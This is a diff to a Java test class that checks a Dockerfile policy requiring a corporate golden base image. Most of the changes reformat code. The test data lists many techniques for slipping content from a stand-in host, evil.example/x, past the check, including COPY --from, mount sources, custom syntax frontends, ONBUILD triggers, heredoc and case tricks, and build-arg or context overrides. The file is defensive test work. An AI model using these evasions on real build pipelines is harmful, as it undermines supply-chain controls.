@@ -34,18 +34,23 @@ public class BypassTest {
     static {
         BYPASSES.put("copied from", "FROM golden\nCOPY --from=evil.example/x / /\n");
         BYPASSES.put("mounted", "FROM golden\nRUN --mount=from=evil.example/x,target=/x cp -a /x/. /\n");
-        BYPASSES.put("mounted as a cache", "FROM golden\nRUN --mount=type=cache,from=evil.example/x,target=/x cp -a /x/. /\n");
+        BYPASSES.put(
+                "mounted as a cache",
+                "FROM golden\nRUN --mount=type=cache,from=evil.example/x,target=/x cp -a /x/. /\n");
         BYPASSES.put("keyword over two lines", "FROM golden\nFR\\\nOM evil.example/x\n");
         BYPASSES.put("keyword indented", "FROM golden\n  FROM evil.example/x\n");
         BYPASSES.put("keyword in small letters", "FROM golden\nfrom evil.example/x\n");
         BYPASSES.put("tab behind the keyword", "FROM golden\nFROM\tevil.example/x\n");
-        BYPASSES.put("host over two lines", "FROM registry.corp/golden/java:17\\\n.evil.example/x\n".replace(":17", ""));
+        BYPASSES.put(
+                "host over two lines", "FROM registry.corp/golden/java:17\\\n.evil.example/x\n".replace(":17", ""));
         BYPASSES.put("stage named like the golden image", "ARG B=evil.example/x\nfrom $B AS java\nFROM java\n");
         BYPASSES.put("stage named scratch", "fROM evil.example/x AS scratch\nFROM scratch\n");
         BYPASSES.put("frontend of its own", "# syntax=evil.example/frontend\nFROM golden\n");
-        BYPASSES.put("old frontend that knows no heredocs", "# syntax=docker/dockerfile:1.2\nFROM golden\nRUN <<CMD\n true\nCMD\n");
+        BYPASSES.put(
+                "old frontend that knows no heredocs",
+                "# syntax=docker/dockerfile:1.2\nFROM golden\nRUN <<CMD\n true\nCMD\n");
         BYPASSES.put("frontend in slashes", "// syntax=evil.example/frontend\nFROM golden\n");
-        BYPASSES.put("trigger of a local stage", "FROM golden AS a\nONBUILD COPY --from=evil.example/x / /\nFROM a\n");
+        BYPASSES.put("trigger of a local stage", "FROM golden AS a\nONBUILD COPY --from=evil.example/x / /\nfrom a\n");
         BYPASSES.put("end of a heredoc that is none", "FROM golden\nCMD <<EOF\nfrom evil.example/x\n#EOF\n");
         BYPASSES.put("heredoc switched off by a quote", "FROM golden\nRUN it's <<EOF\n\tFROM evil.example/x\n#EOF\n");
         BYPASSES.put("quoted flag", "FROM golden\nCOPY --\"from=evil.example/x\" / /\n");
@@ -79,10 +84,12 @@ public class BypassTest {
         String file = "ARG VERSION=17\nFROM registry.corp/golden/java:$VERSION\n";
         assertTrue(check(file, BuildOptions.defaults()).passed());
 
-        assertFalse(check(file, BuildOptions.defaults().withBuildArgs(Map.of("VERSION", "17@sha256:x"))).passed());
+        assertFalse(check(file, BuildOptions.defaults().withBuildArgs(Map.of("VERSION", "17@sha256:x")))
+                .passed());
         assertFalse(check(file, BuildOptions.defaults().withContexts(Map.of(GOLDEN, "docker-image://evil.example/x")))
                 .passed());
-        assertFalse(check(file, BuildOptions.defaults().withContexts(Map.of(GOLDEN, "./folder"))).passed());
+        assertFalse(check(file, BuildOptions.defaults().withContexts(Map.of(GOLDEN, "./folder")))
+                .passed());
         assertFalse(check(file, BuildOptions.defaults().withBuildArgs(Map.of("BUILDKIT_SYNTAX", "evil.example/x")))
                 .passed());
     }
@@ -109,7 +116,8 @@ public class BypassTest {
 
     @Test
     public void findingSaysWhereWhatWhichRuleAndWhatInstead() throws Exception {
-        Finding finding = check("FROM " + GOLDEN + "\n\nCOPY --chown=1 --from=evil.example/x / /\n", BuildOptions.defaults())
+        Finding finding = check(
+                        "FROM " + GOLDEN + "\n\nCOPY --chown=1 --from=evil.example/x / /\n", BuildOptions.defaults())
                 .findings()
                 .get(0);
         assertEquals(3, finding.line());
